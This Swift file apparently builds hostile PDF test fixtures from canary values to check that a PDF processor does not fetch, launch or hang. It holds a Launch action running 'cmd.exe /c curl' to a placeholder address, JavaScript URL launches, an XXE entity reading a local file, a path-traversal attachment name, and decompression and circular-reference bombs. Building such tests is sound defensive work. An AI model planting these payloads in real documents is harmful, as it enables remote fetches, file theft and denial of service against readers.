import Foundation
import TestSupport

/// PDF that opens, starts, sends or unpacks something.
extension AttackShape {
    private static func pdf(
        _ name: String, _ end: End = .published,
        _ change: @escaping @Sendable (inout PDFFile, AttackMaterial) -> Void
    ) -> AttackShape {
        AttackShape("\(name).pdf", end) {
            var file = PDFFile([.quarters(64, 48)])
            change(&file, $0)
            return file.data
        }
    }

    /// What an action does when it is opened and when a page is.
    private static func action(_ dictionary: String, _ file: inout PDFFile) {
        file.catalogue = "/OpenAction \(dictionary)"
        file.pages[0].more =
            "/AA<</O \(dictionary)>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 64 48]/A \(dictionary)>>]"
    }

    /// A picture on the page whose stream is somebody else's.
    private static func picture(_ entries: String, _ file: inout PDFFile) {
        file.extras = [
            PDFFile.stream(
                "",
                "/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8"
                    + "/ColorSpace/DeviceGray\(entries)")
        ]
        file.resources = "/XObject<</I \(PDFFile.firstExtra) 0 R>>"
        file.pages[0].content += "64 0 0 48 0 0 cm /I Do\n"
    }

    static let documents: [AttackShape] = actions + contents + damage

    private static let actions: [AttackShape] = [
        pdf("address") { action("<</S/URI/URI(\($1.http))>>", &$0) },
        pdf("launch") {
            action("<</S/Launch/F(\($1.text))/Win<</F(cmd.exe)/P(/c curl \($1.http))>>>>", &$0)
        },
        pdf("go-to-a-file") { action("<</S/GoToR/F(\($1.text))/D[0/Fit]>>", &$0) },
        pdf("go-to-an-embedded-file") {
            action("<</S/GoToE/F(\($1.text))/T<</R/C/N(a)>>/D[0/Fit]>>", &$0)
        },
        pdf("script") {
            action("<</S/JavaScript/JS(app.launchURL\\('\($1.http)'\\))>>", &$0)
        },
        pdf("import-of-data") { action("<</S/ImportData/F(\($1.text))>>", &$0) },
        pdf("form-that-sends") { file, material in
            action("<</S/SubmitForm/F<</FS/URL/F(\(material.http))>>/Flags 4>>", &file)
            file.catalogue +=
                "/AcroForm<</Fields[]/XFA \(PDFFile.firstExtra) 0 R/NeedAppearances true>>"
            file.extras = [
                PDFFile.stream(
                    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file://\(material.text)'>]><xdp:xdp "
                        + "xmlns:xdp='http://ns.adobe.com/xdp/'>&a;</xdp:xdp>")
            ]
        },
        pdf("film-elsewhere") {
            $0.pages[0].more =
                "/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 64 48]/Movie<</F<</FS/URL/F(\($1.http))"
                + ">>/Poster true>>/A true>><</Type/Annot/Subtype/Sound/Rect[0 0 9 9]/Sound<</F("
                + "\($1.piece))/R 8000>>>>]"
        },
        pdf("attachment") {
            $0.catalogue = "/Names<</EmbeddedFiles<</Names[(a) 5 0 R]>>>>"
            $0.extras = [
                "<</Type/Filespec/F(../../../canary.txt)/UF(../../../canary.txt)/EF<</F 6 0 R>>>>",
                PDFFile.stream("\($1.http)", "/Type/EmbeddedFile/Params<</Size 4294967295>>"),
            ]
        },
    ]

    private static let contents: [AttackShape] = [
        pdf("picture-in-a-file") { picture("/F(\($1.picture))/FFilter/DCTDecode", &$0) },
        pdf("picture-at-an-address") { picture("/F<</FS/URL/F(\($1.http))>>", &$0) },
        pdf("picture-that-was-swapped") {
            picture("/OPI<</2.0<</Type/OPI/Version 2.0/F(\($1.picture))>>>>", &$0)
        },
        pdf("page-of-another-file") {
            $0.extras = [
                PDFFile.stream(
                    "0 0 9 9 re f",
                    "/Type/XObject/Subtype/Form/BBox[0 0 64 48]"
                        + "/Ref<</F(\($1.text))/Page 0>>")
            ]
            $0.resources = "/XObject<</R 5 0 R>>"
            $0.pages[0].content += "/R Do\n"
        },
        pdf("contents-in-a-file", .either) {
            $0.pages[0].more = "/Contents 5 0 R"
            $0.extras = [PDFFile.stream("", "/F(\($1.text))")]
        },
        pdf("font-in-a-file") { file, material in
            file.fonts = "/G 5 0 R"
            file.extras = [
                "<</Type/Font/Subtype/TrueType/BaseFont/Canary/FontDescriptor 6 0 R>>",
                "<</Type/FontDescriptor/FontName/Canary/Flags 32/FontFile2 7 0 R>>",
                PDFFile.stream("", "/F(\(material.text))"),
            ]
            file.pages[0].content += "BT /G 9 Tf 9 9 Td (canary) Tj ET\n"
        },
        pdf("font-by-a-path") {
            $0.fonts =
                "/G<</Type/Font/Subtype/TrueType/BaseFont/\($1.text.replacing("/", with: "#2f"))>>"
            $0.pages[0].content += "BT /G 9 Tf 9 9 Td (canary) Tj ET\n"
        },
    ]

    private static let damage: [AttackShape] = [
        pdf("font-that-is-damaged", .either) { file, _ in
            file.fonts = "/G 5 0 R"
            file.extras = [
                "<</Type/Font/Subtype/TrueType/BaseFont/Canary/FontDescriptor 6 0 R>>",
                "<</Type/FontDescriptor/FontName/Canary/Flags 32/FontFile2 7 0 R>>",
                PDFFile.stream(
                    "\u{0}\u{1}\u{0}\u{0}\u{0}\u{7f}"
                        + String(repeating: "glyf~~~~~~~~~~~~", count: 99)),
            ]
            file.pages[0].content += "BT /G 9 Tf 9 9 Td (canary) Tj ET\n"
        },
        pdf("letters-that-draw-themselves", .either) { file, _ in
            file.fonts = "/G 5 0 R"
            file.extras = [
                "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97"
                    + "/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>"
                    + "/Resources<</Font<</G 5 0 R>>>>>>",
                PDFFile.stream("9 0 d0 BT /G 9 Tf (aaaaaaaaaa) Tj ET"),
            ]
            file.pages[0].content += "BT /G 9 Tf 9 9 Td (a) Tj ET\n"
        },
        pdf("a-billion-pages", .either) { file, _ in file.claimedCount = 1_000_000_000 },
        pdf("pages-in-a-circle", .either) { file, _ in
            file.catalogue = "/Pages 5 0 R"
            file.extras = ["<</Type/Pages/Kids[5 0 R 5 0 R]/Count 2/Parent 5 0 R>>"]
        },
        pdf("lengths-in-a-circle", .either) { file, _ in
            file.extras = ["<</Length 5 0 R>>\nstream\n\nendstream"]
            file.resources = "/XObject<</X 5 0 R>>"
            file.pages[0].content += "/X Do\n"
        },
        pdf("a-page-of-everything", .either) { file, _ in
            (file.pages[0].width, file.pages[0].height) = (1e12, 1e12)
        },
        pdf("a-picture-of-everything", .either) { file, _ in
            picture("/Width 2147483647/Height 2147483647/Filter/JPXDecode", &file)
        },
        AttackShape("forms-of-forms.pdf") { _ in PDFFile.bomb(levels: 8).data },
        AttackShape("tables-in-a-circle.pdf") { _ in
            let plain = PDFFile([.quarters(64, 48)]).data
            // Behind the file another table, whose predecessor is itself.
            return bytes(
                plain,
                "xref\n0 0\ntrailer\n<</Root 1 0 R/Size 9/Prev \(plain.count)>>\n"
                    + "startxref\n\(plain.count)\n%%EOF\n")
        },
        AttackShape("contents-that-unpack.pdf") { _ in
            var file = PDFFile([.quarters(64, 48)])
            // Written last, so that its bytes stand between markers in the finished file.
            file.extras = [
                PDFFile.stream(
                    "@@@@", "/Filter/FlateDecode/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
            ]
            file.resources = "/XObject<</X 5 0 R>>"
            file.pages[0].content += "/X Do\n"
            let data = file.data
            guard let mark = data.range(of: Data("@@@@".utf8)) else { return data }
            return bytes(
                data[..<mark.lowerBound], Deflate.zlib(32, count: 256 << 20),
                data[mark.upperBound...])
        },
    ]
}
